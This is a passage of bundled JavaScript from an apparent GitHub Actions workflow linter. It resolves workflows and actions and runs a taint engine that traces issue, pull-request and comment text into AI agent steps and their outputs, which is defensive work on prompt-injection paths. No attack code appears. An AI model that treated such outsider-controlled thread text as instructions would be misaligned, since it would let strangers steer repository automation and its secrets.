    const abs = import_node_path.default.resolve(given);
    let stat;
    try {
      stat = import_node_fs.default.statSync(abs);
    } catch {
      errors.push({ file: given, line: 1, column: 1, message: "no such file or directory" });
      continue;
    }
    if (stat.isFile()) {
      sets.push({ root: guessRoot(import_node_path.default.dirname(abs)), files: [abs] });
      continue;
    }
    const dir = workflowDir(abs);
    const files = dir ? listYaml(dir) : [];
    if (!files.length) {
      notes.push(nothingToLint(shownPath(abs, cwd)));
      continue;
    }
    sets.push({ root: guessRoot(dir), files });
  }
  return sets;
}
function shownPath(abs, cwd) {
  const rel = import_node_path.default.relative(cwd, abs);
  if (rel === "") return ".";
  return rel.startsWith("..") || import_node_path.default.isAbsolute(rel) ? abs : rel.split(import_node_path.default.sep).join("/");
}
function workflowDir(dir) {
  const nested = import_node_path.default.join(dir, ".github", "workflows");
  if (isDir(nested)) return nested;
  if (import_node_path.default.basename(dir) === ".github") return isDir(import_node_path.default.join(dir, "workflows")) ? import_node_path.default.join(dir, "workflows") : void 0;
  if (import_node_fs.default.existsSync(import_node_path.default.join(dir, ".git")) || isDir(import_node_path.default.join(dir, ".github"))) return void 0;
  return dir;
}
function guessRoot(dir) {
  if (import_node_path.default.basename(dir) === "workflows" && import_node_path.default.basename(import_node_path.default.dirname(dir)) === ".github") {
    return import_node_path.default.dirname(import_node_path.default.dirname(dir));
  }
  if (import_node_path.default.basename(dir) === ".github") return import_node_path.default.dirname(dir);
  return dir;
}
function isDir(p) {
  try {
    return import_node_fs.default.statSync(p).isDirectory();
  } catch {
    return false;
  }
}
function listYaml(dir) {
  try {
    return import_node_fs.default.readdirSync(dir, { withFileTypes: true }).filter((d) => d.isFile() && WORKFLOW_EXT.test(d.name)).map((d) => import_node_path.default.join(dir, d.name)).sort();
  } catch {
    return [];
  }
}
var TOP_NAME = /^name:[ \t]*(?:"([^"]*)"|'([^']*)'|([^#\n]*?))[ \t]*(?:#.*)?$/m;
var LOCAL_USES = /\buses:[ \t]*["']?(\.\/[^\s"'#]+)/g;
function enclosingRepository(dir) {
  for (let at = import_node_path.default.resolve(dir); ; at = import_node_path.default.dirname(at)) {
    if (import_node_fs.default.existsSync(import_node_path.default.join(at, ".git"))) return at;
    if (import_node_path.default.dirname(at) === at) return void 0;
  }
}
function reportRoot(sets, fallback) {
  const roots = sets.filter((s) => !s.memory).map((s) => enclosingRepository(s.root) ?? s.root);
  if (!roots.length) return import_node_path.default.resolve(fallback);
  let common = roots[0];
  for (const r of roots.slice(1)) while (import_node_path.default.relative(common, r).startsWith("..")) common = import_node_path.default.dirname(common);
  return common;
}
function openRepository(set, cwd = process.cwd(), remote) {
  const reader = set.memory ? memoryReader(set.memory) : DISK;
  if (set.memory) cwd = set.root;
  const errors = [];
  const reported = /* @__PURE__ */ new Set();
  const cache2 = /* @__PURE__ */ new Map();
  const texts = /* @__PURE__ */ new Map();
  const remoteTexts = /* @__PURE__ */ new Map();
  const display = (abs) => {
    const rel = import_node_path.default.relative(cwd, abs);
    return rel && !rel.startsWith("..") && !import_node_path.default.isAbsolute(rel) ? rel : abs;
  };
  const repo = {
    root: set.root,
    files: [],
    calledLocally: /* @__PURE__ */ new Set(),
    errors,
    sources: /* @__PURE__ */ new Map(),
    actions: /* @__PURE__ */ new Map(),
    display,
    stats: { files: 0, workflows: 0, actions: 0 },
    remote,
    remoteCache: /* @__PURE__ */ new Map(),
    reader,
    text: (shown) => texts.get(shown) ?? remoteTexts.get(shown) ?? set.memory?.get(import_node_path.default.resolve(set.root, shown)),
    workflow(abs) {
      if (cache2.has(abs)) {
        const hit = cache2.get(abs) ?? null;
        cache2.delete(abs);
        cache2.set(abs, hit);
        return hit;
      }
      const loaded = readYamlFile(repo, abs, reported, texts);
      let workflow = null;
      if (loaded && !looksLikeAction(loaded.root)) {
        workflow = buildWorkflow(loaded.file, loaded.root);
        if (!reported.has(`problems:${abs}`)) {
          reported.add(`problems:${abs}`);
          reportProblems(repo, loaded.file, workflow.problems);
        }
      }
      cache2.set(abs, workflow);
      if (cache2.size > CACHE_SIZE) {
        const oldest = cache2.keys().next().value;
        cache2.delete(oldest);
        texts.delete(display(oldest));
      }
      return workflow;
    },
    *byName(name) {
      for (const f of repo.files) {
        if (f.name !== name && import_node_path.default.basename(f.abs) !== name) continue;
        const workflow = repo.workflow(f.abs);
        if (workflow) yield workflow;
      }
    }
  };
  remoteTextsByRepo.set(repo, remoteTexts);
  for (const abs of set.files) {
    const entry = { abs, calls: [] };
    try {
      const text = reader.size(abs) <= MAX_FILE_BYTES ? reader.read(abs) : "";
      const name = TOP_NAME.exec(text);
      if (name) entry.name = (name[1] ?? name[2] ?? name[3] ?? "").trim();
      for (const m of text.matchAll(LOCAL_USES)) {
        const target = localPath(repo, m[1]);
        if (target) {
          entry.calls.push(target);
          repo.calledLocally.add(target);
        }
      }
    } catch {
    }
    repo.files.push(entry);
  }
  return repo;
}
function readYamlFile(repo, abs, reported, texts) {
  const shown = repo.display(abs);
  const report2 = (line, column, message) => {
    if (reported.has(abs)) return;
    reported.add(abs);
    repo.errors.push({ file: shown, line, column, message });
  };
  let text;
  try {
    const size = (repo.reader ?? DISK).size(abs);
    if (size > MAX_FILE_BYTES) {
      report2(1, 1, `file is too large to be a workflow (${size} bytes)`);
      return null;
    }
    text = (repo.reader ?? DISK).read(abs);
  } catch (err) {
    report2(1, 1, `cannot read file: ${err.code ?? "error"}`);
    return null;
  }
  if (!reported.has(`read:${abs}`)) {
    reported.add(`read:${abs}`);
    repo.stats.files++;
  }
  const file = makeSourceFile(shown, text);
  texts.set(shown, text);
  try {
    return { file, root: loadYaml(file) };
  } catch (err) {
    const offset = err instanceof YamlLoadError ? err.offset : 0;
    const pos = positionOf(file, Math.min(offset, text.length));
    const message = err instanceof Error ? err.message : String(err);
    report2(pos.line, pos.column, `invalid YAML: ${message}`);
    return null;
  }
}
function reportProblems(repo, file, problems) {
  for (const problem of problems) {
    const pos = positionOf(file, problem.offset);
    repo.errors.push({ file: file.path, line: pos.line, column: pos.column, message: problem.message });
  }
}
function localPath(repo, uses) {
  if (!uses.startsWith("./")) return null;
  const target = import_node_path.default.resolve(repo.root, uses.replace(/@.*$/, ""));
  const rel = import_node_path.default.relative(repo.root, target);
  if (rel.startsWith("..") || import_node_path.default.isAbsolute(rel)) return null;
  return target;
}
function resolveLocalAction(repo, uses) {
  const dir = localPath(repo, uses);
  if (!dir) return null;
  if (repo.actions.has(dir)) return repo.actions.get(dir) ?? null;
  repo.actions.set(dir, null);
  const file = ["action.yml", "action.yaml"].map((n) => import_node_path.default.join(dir, n)).find((p) => (repo.reader ?? DISK).exists(p));
  if (!file) return null;
  const loaded = readYamlFile(repo, file, /* @__PURE__ */ new Set(), /* @__PURE__ */ new Map());
  if (!loaded) return null;
  repo.sources.set(loaded.file.path, loaded.file.text);
  const action = buildAction(loaded.file, loaded.root);
  reportProblems(repo, loaded.file, action.problems);
  repo.actions.set(dir, action);
  repo.stats.actions++;
  return action;
}
function resolveLocalWorkflow(repo, uses) {
  const abs = localPath(repo, uses);
  if (!abs || !(repo.reader ?? DISK).exists(abs)) return null;
  return repo.workflow(abs);
}
var remoteTextsByRepo = /* @__PURE__ */ new WeakMap();
function resolveRemote(repo, uses, kind) {
  if (!repo.remote || uses.startsWith("./") || uses.startsWith("docker://")) return null;
  const key2 = `${kind}:${uses}`;
  if (repo.remoteCache.has(key2)) return repo.remoteCache.get(key2) ?? null;
  repo.remoteCache.set(key2, null);
  const fetched = kind === "action" ? repo.remote.action(uses) : repo.remote.workflow(uses);
  if (!fetched || "error" in fetched) return null;
  const file = makeSourceFile(fetched.display, fetched.text);
  remoteTextsByRepo.get(repo)?.set(fetched.display, fetched.text);
  let root;
  try {
    root = loadYaml(file);
  } catch (err) {
    const pos = positionOf(file, err instanceof YamlLoadError ? err.offset : 0);
    repo.errors.push({ file: fetched.display, line: pos.line, column: pos.column, message: `invalid YAML: ${err.message}` });
    return null;
  }
  const built = kind === "action" ? buildAction(file, root) : buildWorkflow(file, root);
  if (fetched.repository && fetched.commit) remoteOrigins.set(built, { repository: fetched.repository, commit: fetched.commit });
  reportProblems(repo, file, built.problems);
  repo.remoteCache.set(key2, built);
  return built;
}
function resolveRemoteAction(repo, uses) {
  return resolveRemote(repo, uses, "action");
}
function resolveRemoteWorkflow(repo, uses) {
  return resolveRemote(repo, uses, "workflow");
}
var remoteOrigins = /* @__PURE__ */ new WeakMap();
function effectiveWorkflowUses(uses, from) {
  const origin = uses.startsWith("./") ? remoteOrigins.get(from) : void 0;
  return origin ? `${origin.repository}/${uses.slice(2).replace(/@.*$/, "")}@${origin.commit}` : uses;
}
function resolveCalledWorkflow(repo, uses, from) {
  const target = effectiveWorkflowUses(uses, from);
  return target.startsWith("./") ? resolveLocalWorkflow(repo, target) : resolveRemoteWorkflow(repo, target);
}

// src/analysis/instances.ts
var NO_TRUST = { users: /* @__PURE__ */ new Set(), bots: /* @__PURE__ */ new Set() };
var MAX_CALL_DEPTH = 4;
var MAX_ACTION_DEPTH = 6;
function hopAt(file, offset, note) {
  const pos = positionOf(file, offset);
  return { file: file.path, line: pos.line, column: pos.column, note };
}
var repoTrust = /* @__PURE__ */ new WeakMap();
function expandEntry(repo, workflow, triggerRules, abs, trust = NO_TRUST) {
  repoTrust.set(repo, trust);
  let triggers = classifyTriggers(workflow, triggerRules, repo.byName);
  if (repo.calledLocally.has(abs)) triggers = triggers.filter((t) => t.event !== "workflow_call");
  if (!triggers.length) return [];
  return expandWorkflow(repo, workflow, workflow, triggers, void 0, [], 0);
}
function expandWorkflow(repo, workflow, entry, triggers, caller, via, depth) {
  const byId = /* @__PURE__ */ new Map();
  const out = [];
  for (const job of workflow.jobs) {
    const conditions = [...caller?.job.conditions ?? []];
    if (job.if) conditions.push({ expr: parseCondition(job.if), node: job.if, file: workflow.file });
    const instance = {
      job,
      workflow,
      entry,
      triggers,
      conditions,
      caller,
      needs: [],
      permissions: job.permissions ?? workflow.permissions ?? caller?.job.permissions,
      steps: [],
      via,
      callees: [],
      trust: caller?.job.trust ?? repoTrust.get(repo) ?? NO_TRUST
    };
    byId.set(job.id, instance);
    out.push(instance);
  }
  for (const instance of out) {
    instance.needs = instance.job.needs.map((id) => byId.get(id)).filter((j) => !!j);
    for (const needed of instance.needs) {
      if (needed.job.if && !/\balways\(\)/.test(instance.job.if?.text ?? "")) {
        instance.conditions.push({ expr: parseCondition(needed.job.if), node: needed.job.if, file: workflow.file });
      }
    }
    expandSteps(repo, instance, instance.job.steps, workflow.file, void 0, [], 0);
  }
  const called = [];
  if (depth < MAX_CALL_DEPTH) {
    for (const instance of out) {
      const uses = instance.job.uses;
      if (!uses) continue;
      const callee = resolveCalledWorkflow(repo, uses.text, workflow);
      if (!callee) continue;
      const site = { job: instance, uses, with: instance.job.with, secrets: instance.job.secrets };
      const hop = hopAt(workflow.file, uses.start, `job '${instance.job.id}' calls ${uses.text}`);
      const calleeJobs = expandWorkflow(repo, callee, entry, triggers, site, [...via, hop], depth + 1);
      instance.callees = calleeJobs.filter((j) => j.caller?.job === instance);
      called.push(...calleeJobs);
    }
  }
  return [...out, ...called];
}
function expandSteps(repo, job, steps, file, frame, outer, depth) {
  const siblings = [];
  for (const step of steps) {
    const conditions = [...outer];
    if (step.if) conditions.push({ expr: parseCondition(step.if), node: step.if, file });
    const instance = { job, step, file, conditions, frame, siblings, position: job.steps.length };
    job.steps.push(instance);
    siblings.push(instance);
    const uses = step.uses?.text;
    if (uses && depth < MAX_ACTION_DEPTH && !matchAgentAction(uses)) {
      const action = uses.startsWith("./") ? resolveLocalAction(repo, uses) : resolveRemoteAction(repo, uses);
      if (action && action.using === "composite" && !isOnStack(frame, action)) {
        expandSteps(repo, job, action.steps, action.file, { action, callerStep: instance }, conditions, depth + 1);
      }
    }
  }
}
function isOnStack(frame, action) {
  for (let f = frame; f; f = f.callerStep.frame) if (f.action === action) return true;
  return false;
}

// src/analysis/shell.ts
var cache = /* @__PURE__ */ new WeakMap();
function scriptFacts(key2, script) {
  const known = cache.get(key2);
  if (known) return known;
  const facts = readScript(script);
  cache.set(key2, facts);
  return facts;
}
var SPECIAL_FILE = /(?:>>?|tee\s+(?:-a\s+)?)\s*"?\$\{?(GITHUB_OUTPUT|GITHUB_ENV|GITHUB_PATH|GITHUB_STEP_SUMMARY)\}?"?/;
var NAME_IN_WRITE = /(?:^|[\s"'({;])([A-Za-z_][A-Za-z0-9_-]*)(=|<<)/g;
var FILE_REDIRECT = /(?:>>?|\btee\s+(?:-a\s+)?)\s*("[^"]+"|'[^']+'|[^\s;|&)]+)/g;
var ASSIGNMENT2 = /^\s*(?:export\s+|local\s+|declare\s+(?:-\w+\s+)?)?([A-Za-z_][A-Za-z0-9_]*)=(.*)$/;
function readScript(script) {
  const facts = { outputs: [], env: [], paths: [], files: [], assignments: [] };
  const lines = logicalLines(script);
  for (let i = 0; i < lines.length; i++) {
    const { text, offset } = lines[i];
    const special = SPECIAL_FILE.exec(text);
    if (special) {
      const target = special[1];
      const block = /^\s*(\}|done|\)|fi)(?=\s|$|>|;|\|)/.test(text) ? blockStart(lines, i) : i;
      const blockText = lines.slice(block, i + 1).map((l) => l.text).join("\n");
      const blockOffset = lines[block].offset;
      const bucket = target === "GITHUB_OUTPUT" ? facts.outputs : target === "GITHUB_ENV" ? facts.env : target === "GITHUB_PATH" ? facts.paths : null;
      if (bucket) {
        const names = /* @__PURE__ */ new Set();
        for (const m of blockText.matchAll(NAME_IN_WRITE)) names.add(m[1]);
        if (target === "GITHUB_PATH") names.add("PATH");
        for (const name of names) bucket.push({ name, text: blockText, offset: blockOffset });
      }
      continue;
    }
    const heredoc = /<<-?\s*(['"]?)([A-Za-z_][A-Za-z0-9_]*)\1/.exec(text);
    let written = text;
    if (heredoc) {
      let end = i + 1;
      while (end < lines.length && lines[end].text.trim() !== heredoc[2]) end++;
      written = lines.slice(i, end).map((l) => l.text).join("\n");
    }
    for (const m of text.matchAll(FILE_REDIRECT)) {
      const target = m[1].replace(/^["']|["']$/g, "");
      if (target.startsWith("&") || target.startsWith("<") || target === "/dev/null" || /^\d$/.test(target)) continue;
      facts.files.push({ path: target, text: written, offset });
    }
    const assignment = ASSIGNMENT2.exec(text);
    if (assignment) facts.assignments.push({ name: assignment[1], text: assignment[2], offset: offset + text.indexOf(assignment[2]) });
  }
  return facts;
}
function logicalLines(script) {
  const out = [];
  let start = 0;
  let buffer = "";
  let bufferOffset = 0;
  while (start <= script.length) {
    let end = script.indexOf("\n", start);
    if (end === -1) end = script.length;
    const raw = script.slice(start, end);
    if (!buffer) bufferOffset = start;
    if (raw.endsWith("\\")) buffer += raw.slice(0, -1) + " ";
    else {
      out.push({ text: buffer + raw, offset: bufferOffset });
      buffer = "";
    }
    start = end + 1;
  }
  if (buffer) out.push({ text: buffer, offset: bufferOffset });
  return out;
}
function blockStart(lines, end) {
  let depth = 0;
  for (let i = end; i >= 0; i--) {
    const t = lines[i].text;
    depth += (t.match(/(^|\s|;)(\}|\)|done|fi)(?=\s|;|$|>)/g) ?? []).length;
    depth -= (t.match(/(^|\s)(\{|\(|do|then)(?=\s|$)/g) ?? []).length;
    if (depth <= 0 && i < end) return i;
  }
  return Math.max(0, end - 20);
}
function shellVariables(text) {
  const out = [];
  const re = /\$(?:\{([A-Za-z_][A-Za-z0-9_]*)|([A-Za-z_][A-Za-z0-9_]*))|\bprintenv\s+([A-Za-z_][A-Za-z0-9_]*)/g;
  for (const m of text.matchAll(re)) out.push({ name: m[1] ?? m[2] ?? m[3], index: m.index ?? 0 });
  return out;
}
var RUNTIME_FETCH = [
  { pattern: /\bgh\s+(issue|pr)\s+(view|diff|status)\b/, what: "issue or pull-request text fetched with the gh CLI" },
  { pattern: /\bgh\s+(issue|pr)\s+list\b/, what: "issue or pull-request titles listed with the gh CLI" },
  { pattern: /\bgh\s+search\s+(issues|prs)\b/, what: "issues found with gh search" },
  { pattern: /\bgh\s+api\b[^\n]*\b(issues|pulls|comments|discussions|reviews)\b/, what: "issue, pull-request or comment text fetched through the GitHub API" },
  { pattern: /\bGITHUB_EVENT_PATH\b/, what: "the event payload ($GITHUB_EVENT_PATH)" },
  { pattern: /\bmcp__github__(get_issue|list_issues|search_issues|get_issue_comments|get_pull_request\w*|list_pull_requests|get_discussion\w*)\b/i, what: "issue or pull-request text read through the GitHub MCP server" },
  { pattern: /\b(issue_read|pull_request_read)\b/, what: "issue or pull-request text read through GitHub tools" }
];
var TEXT_FIELDS = /\b(title|body|comments|reviews|headRefName|commits|author|labels|files)\b/;
function runtimeFetch(text) {
  let found = null;
  for (const line of text.split("\n")) {
    for (const { pattern, what } of RUNTIME_FETCH) {
      if (!pattern.test(line)) continue;
      if (/\bgh\s+(issue|pr|search)\b/.test(line)) {
        const json = /--json[=\s]+([\w,]+)/.exec(line);
        if (json && !TEXT_FIELDS.test(json[1])) continue;
        const labelGated = /\s(--label|-l)[=\s]/.test(line);
        if (!labelGated) return { what, labelGated: false };
        found ??= { what: `${what} (filtered to a maintainer-applied label)`, labelGated: true };
        continue;
      }
      return { what, labelGated: false };
    }
  }
  return found;
}

// src/analysis/taint.ts
var MAX_TAINTS = 16;
var TaintEngine = class {
  constructor(sources, agents) {
    this.sources = sources;
    this.agents = agents;
    this.index = sourceIndex(sources);
  }
  sources;
  agents;
  memo = /* @__PURE__ */ new Map();
  active = /* @__PURE__ */ new Set();
  /** Taint of every template in a YAML value (mappings and sequences are walked). */
  ofNode(node, file, scope) {
    if (!node) return [];
    if (node.kind === "scalar") return this.ofScalar(node, file, scope);
    const items = node.kind === "map" ? node.pairs.map((p) => p.value) : node.items;
    return limit(items.flatMap((i) => this.ofNode(i, file, scope)));
  }
  ofScalar(node, file, scope) {
    if (typeof node.value !== "string" || !node.text.includes("${{")) return [];
    const scopeKey = scope.step ?? scope.job;
    let byScope = this.memo.get(node);
    const known = byScope?.get(scopeKey);
    if (known) return known;
    const key2 = `${node.start}:${file.path}:${scope.job.job.id}:${scope.step?.position ?? -1}`;
    if (this.active.has(key2)) return [];
    this.active.add(key2);
    const result = limit(this.templates(node.text, (offset, length) => locateInScalar(file, node, offset, length), file, scope));
    this.active.delete(key2);
    if (!byScope) this.memo.set(node, byScope = /* @__PURE__ */ new Map());
    byScope.set(scopeKey, result);
    return result;
  }
  /** Taint of the `${{ }}` references in `text`; `locate` maps a text offset to a file offset. */
  templates(text, locate, file, scope) {
    const out = [];
    for (const template of findTemplates(text)) {
      const refs = referencesOf(template.inner);
      if (!refs) continue;
      for (const ref of refs) {
        const at = () => locate(template.innerStart + ref.node.start, ref.node.end - ref.node.start);
        out.push(...this.ofReference(ref, file, at, scope));
      }
    }
    return out;
  }
  /** Taint of one context reference; `at` gives its file offset (called only when a hop is made). */
  ofReference(ref, file, at, scope) {
    const path14 = ref.path;
    const matches = this.matchSources(path14, ref.functions);
    if (matches.length) {
      return matches.map((source) => ({
        origin: { kind: "context", role: source.author, events: source.events?.length ? source.events : null, what: path14 },
        hops: [hopAt(file, at(), `${path14} is ${describe2(source)}`)]
      }));
    }
    const parts = path14.split(".");
    const via = (taints, note) => taints.length ? extend(taints, hopAt(file, at(), note)) : taints;
    switch (parts[0]) {
      case "env":
        return parts[1] && parts[1] !== "*" ? via(this.envTaint(parts[1], scope), `read as env.${parts[1]}`) : [];
      case "steps":
        if (parts.length >= 4 && parts[2] === "outputs") {
          return via(this.stepOutputTaint(parts[1], parts[3], scope), `read as steps.${parts[1]}.outputs.${parts[3]}`);
        }
        return [];
      case "needs":
        if (parts.length >= 4 && parts[2] === "outputs") {
          return via(this.needsOutputTaint(parts[1], parts[3], scope), `read as needs.${parts[1]}.outputs.${parts[3]}`);
        }
        return [];
      case "inputs":
        return parts[1] ? via(this.inputTaint(parts[1], scope), `read as inputs.${parts[1]}`) : [];
      default:
        return [];
    }
  }
  matchSources(path14, functions) {
    if (!path14.startsWith("github")) return [];
    const out = this.index.contextsAbove(path14);
    if (out.length) return out;
    const serialised = functions.includes("tojson") || functions.includes("join");
    return this.sources.wholeObjects.filter((w) => path14 === w.path || serialised && pathWithin(w.path, path14));
  }
  index;
  /** A third-party action modelled in sources.yml whose `output` carries outsider text. */
  actionOutputSource(uses, output) {
    const name = uses.replace(/@.*$/, "").toLowerCase();
    return (this.sources.actionOutputs ?? []).filter((a) => name === a.uses.toLowerCase() || name.startsWith(`${a.uses.toLowerCase()}/`)).find((a) => a.outputs.includes("*") || a.outputs.includes(output));
  }
  /** Taint of an environment variable as a step (or, without a step, the job) sees it. */
  envTaint(name, scope) {
    const out = [];
    const step = scope.step;
    if (step) {
      const own = step.step.env.find((e) => e.name === name);
      if (own) return this.entryTaint(own, step.file, scope, `env ${name} of step '${step.step.label}'`);
      for (let frame = step.frame; frame; frame = frame.callerStep.frame) {
        const outer = frame.callerStep.step.env.find((e) => e.name === name);
        if (outer) return this.entryTaint(outer, frame.callerStep.file, { job: scope.job, step: frame.callerStep }, `env ${name} of step '${frame.callerStep.step.label}'`);
      }
      for (const earlier of scope.job.steps) {
        if (earlier.position >= step.position || !earlier.step.run) continue;
        const run = earlier.step.run;
        for (const write of scriptFacts(run, run.text).env) {
          if (write.name !== name) continue;
          out.push(...extend(this.shellText(write.text, run, write.offset, { job: scope.job, step: earlier }), hopAt(earlier.file, locateInScalar(earlier.file, run, write.offset, write.text.length), `written to $GITHUB_ENV as ${name}`)));
        }
      }
    }
    const jobEntry = scope.job.job.env.find((e) => e.name === name);
    if (jobEntry) return [...out, ...this.entryTaint(jobEntry, scope.job.workflow.file, { job: scope.job }, `env ${name} of job '${scope.job.job.id}'`)];
    const wfEntry = scope.job.workflow.env.find((e) => e.name === name);
    if (wfEntry) return [...out, ...this.entryTaint(wfEntry, scope.job.workflow.file, { job: scope.job }, `workflow env ${name}`)];
    return out;
  }
  entryTaint(entry, file, scope, note) {
    return extend(this.ofNode(entry.value, file, scope), hopAt(file, entry.keyNode.start, note));
  }
  /** `steps.<id>.outputs.<name>` as seen from the scope's step. */
  stepOutputTaint(id, output, scope) {
    const siblings = scope.step?.siblings ?? scope.job.steps.filter((s) => !s.frame);
    const producer = siblings.find((s) => s.step.id === id);
    if (!producer) return [];
    const step = producer.step;
    const pscope = { job: scope.job, step: producer };
    if (step.run) {
      const run = step.run;
      return limit(
        scriptFacts(run, run.text).outputs.filter((w) => w.name === output).flatMap(
          (w) => extend(this.shellText(w.text, run, w.offset, pscope), hopAt(producer.file, locateInScalar(producer.file, run, w.offset, w.text.length), `written to $GITHUB_OUTPUT as ${output}`))
        )
      );
    }
    const uses = step.uses?.text ?? "";
    const nested = producer.job.steps.find((s) => s.frame?.callerStep === producer);
    if (nested?.frame) {
      const entry = nested.frame.action.outputs.find((o) => o.name === output);
      return entry ? this.entryTaint(entry, nested.frame.action.file, { job: scope.job, step: nested }, `output ${output} of ${uses}`) : [];
    }
    const agent = matchAgentAction(uses);
    const inputs = step.with.flatMap((w) => this.ofNode(w.value, producer.file, pscope));
    if (agent) {
      const ai = { origin: { kind: "ai-output", role: "thread", events: null, what: `output ${output} of ${agent.name}` }, hops: [hopAt(producer.file, step.uses.start, `model output of step '${step.label}' (${agent.name})`)] };
      return [ai, ...extend(inputs, hopAt(producer.file, step.uses.start, `the model's answer can repeat its input (${agent.name})`))];
    }
    if (/^actions\/github-script@/i.test(uses)) {
      const script = inputOf(step.with, "script");
      const text = script?.text ?? "";
      const fetched = /context\.payload\.(issue|comment|pull_request|review|discussion)|github\.rest\.(issues|pulls)\.(get|list)/.test(text);
      const own = fetched ? [{ origin: { kind: "fetch", role: "thread", events: null, what: "the event payload or thread read by github-script" }, hops: [hopAt(producer.file, script.keyNode.start, `github-script in step '${step.label}' reads outsider text`)] }] : [];
      return [...own, ...inputs];
    }
    const modelled = this.actionOutputSource(uses, output);
    if (modelled) {
      const what = `${modelled.what}, output ${output}`;
      return [{ origin: { kind: "fetch", role: modelled.author, events: null, what }, hops: [hopAt(producer.file, step.uses.start, `step '${step.label}' outputs ${what}`)] }];
    }
    return extend(inputs, hopAt(producer.file, step.uses?.start ?? step.node.start, `assumed to pass its inputs to output ${output} (${uses})`));
  }
  needsOutputTaint(jobId, output, scope) {
    const needed = scope.job.needs.find((j) => j.job.id === jobId);
    if (!needed) return [];
    if (needed.job.uses) return this.calledWorkflowOutput(needed, output);
    const entry = needed.job.outputs.find((o) => o.name === output);
    return entry ? this.entryTaint(entry, needed.workflow.file, { job: needed }, `output ${output} of job '${jobId}'`) : [];
  }
  /** Output of a reusable workflow call: `on.workflow_call.outputs.<name>.value`, read from its jobs. */
  calledWorkflowOutput(caller, output) {
    const first = caller.callees[0];
    if (!first) return [];
    const entry = first.workflow.callOutputs.find((o) => o.name === output);
    if (!entry || entry.value.kind !== "scalar") return [];
    const node = entry.value;
    const file = first.workflow.file;
    const out = [];
    for (const template of findTemplates(node.text)) {
      for (const ref of referencesOf(template.inner) ?? []) {
        const parts = ref.path.split(".");
        if (parts[0] !== "jobs" || parts[2] !== "outputs" || !parts[3]) continue;
        const job = caller.callees.find((j) => j.job.id === parts[1]);
        const jobOutput = job?.job.outputs.find((o) => o.name === parts[3]);
        if (!job || !jobOutput) continue;
        const at = locateInScalar(file, node, template.innerStart + ref.node.start, ref.node.end - ref.node.start);
        out.push(...extend(this.entryTaint(jobOutput, job.workflow.file, { job }, `output ${parts[3]} of job '${parts[1]}'`), hopAt(file, at, `workflow output ${output}`)));
      }
    }
    return limit(out);
  }
  /** `inputs.<name>`: the `with:` of the composite action's caller step, or of the reusable workflow's caller job. */
  inputTaint(name, scope) {
    const frame = scope.step?.frame;
    if (frame) {
      const given = inputOf(frame.callerStep.step.with, name);
      const callerScope = { job: scope.job, step: frame.callerStep };
      if (given) return this.entryTaint(given, frame.callerStep.file, callerScope, `input ${name} of ${frame.callerStep.step.uses?.text}`);
      const input = frame.action.inputs.find((i) => i.name === name);
      return input?.default ? this.ofScalar(input.default, frame.action.file, scope) : [];
    }
    const caller = scope.job.caller;
    if (caller) {
      const given = inputOf(caller.with, name);
      if (given) return this.entryTaint(given, caller.job.workflow.file, { job: caller.job }, `input ${name} of ${caller.uses.text}`);
    }
    return [];
  }
  /** Taint of shell text: its templates, the variables it expands, and run-time fetches. */
  shellText(text, run, offset, scope) {
    const step = scope.step;
    const file = step.file;
    const out = this.templates(text, (o, l) => locateInScalar(file, run, offset + o, l), file, scope);
    const fetch = runtimeFetch(text);
    if (fetch) out.push(fetchTaint(fetch, hopAt(file, locateInScalar(file, run, offset, text.length), `the script pulls in ${fetch.what}`)));
    const facts = scriptFacts(run, run.text);
    for (const file2 of this.taintedFiles(step)) {
      if (file2.path.length > 3 && text.includes(file2.path) && !facts.files.some((f) => f.path === file2.path && f.offset === offset)) {
        out.push(...extend(file2.taints, hopAt(step.file, locateInScalar(step.file, run, offset, text.length), `reads ${file2.path}`)));
      }
    }
    for (const variable of shellVariables(text)) {
      const local = facts.assignments.filter((a) => a.name === variable.name && a.offset < offset + variable.index);
      if (local.length) {
        const last = local[local.length - 1];
        if (last.offset !== offset) out.push(...extend(this.shellText(last.text, run, last.offset, scope), hopAt(file, locateInScalar(file, run, last.offset, last.text.length), `assigned to $${variable.name}`)));
        continue;
      }
      out.push(...this.envTaint(variable.name, scope));
    }
    return limit(out);
  }
  /** Files that steps of the job up to `step` wrote from outsider text (memoised per step). */
  taintedFiles(step) {
    const known = this.fileMemo.get(step);
    if (known) return known;
    const key2 = `files:${step.job.job.id}:${step.position}`;
    if (this.active.has(key2)) return [];
    this.active.add(key2);
    const out = [];
    for (const earlier of step.job.steps) {
      if (earlier.position > step.position || !earlier.step.run) continue;
      const run = earlier.step.run;
      for (const write of scriptFacts(run, run.text).files) {
        const taints = this.shellText(write.text, run, write.offset, { job: step.job, step: earlier });
        if (!taints.length) continue;
        const hop = hopAt(earlier.file, locateInScalar(earlier.file, run, write.offset, write.text.length), `written to ${write.path}`);
        out.push({ path: write.path, taints: extend(taints, hop) });
      }
    }
    this.active.delete(key2);
    this.fileMemo.set(step, out);
    return out;
  }
  fileMemo = /* @__PURE__ */ new Map();
  /** All environment variables a step's process gets from the workflow, with their taint. */
  visibleEnv(step) {
    const names = /* @__PURE__ */ new Set();
    for (const e of step.step.env) names.add(e.name);
    for (let f = step.frame; f; f = f.callerStep.frame) for (const e of f.callerStep.step.env) names.add(e.name);
    for (const e of step.job.job.env) names.add(e.name);
    for (const e of step.job.workflow.env) names.add(e.name);
    for (const earlier of step.job.steps) {
      if (earlier.position >= step.position || !earlier.step.run) continue;
      for (const w of scriptFacts(earlier.step.run, earlier.step.run.text).env) names.add(w.name);
    }
    return [...names].map((name) => ({ name, taints: this.envTaint(name, { job: step.job, step }) }));
  }
  get agentsData() {
    return this.agents;
  }
};
function fetchTaint(fetch, hop) {
  return { origin: { kind: "fetch", role: "thread", events: null, what: fetch.what, maintainerChosen: fetch.labelGated }, hops: [hop] };
}
function pathWithin(path14, pattern) {
  const p = path14.split(".");
  const q = pattern.split(".");
  if (p.length < q.length) return false;
  for (let i = 0; i < q.length; i++) if (q[i] !== "*" && q[i] !== p[i] && p[i] !== "*") return false;
  return true;
}
function describe2(source) {
  const kind = "kind" in source ? source.kind : "whole object";
  return `outsider-controlled (${kind}, written by the ${source.author === "actor" ? "actor" : `${source.author} author`})`;
}
function extend(taints, hop) {
  return taints.map((t) => ({ origin: t.origin, hops: [...t.hops, hop] }));
}
function limit(taints) {
  if (taints.length <= 1) return taints;
  const best = /* @__PURE__ */ new Map();
  for (const t of taints) {
    const key2 = `${t.origin.kind}:${t.origin.what}:${t.origin.role}`;
    const seen = best.get(key2);
    if (!seen || t.hops.length < seen.hops.length) best.set(key2, t);
  }
  return [...best.values()].slice(0, MAX_TAINTS);
}
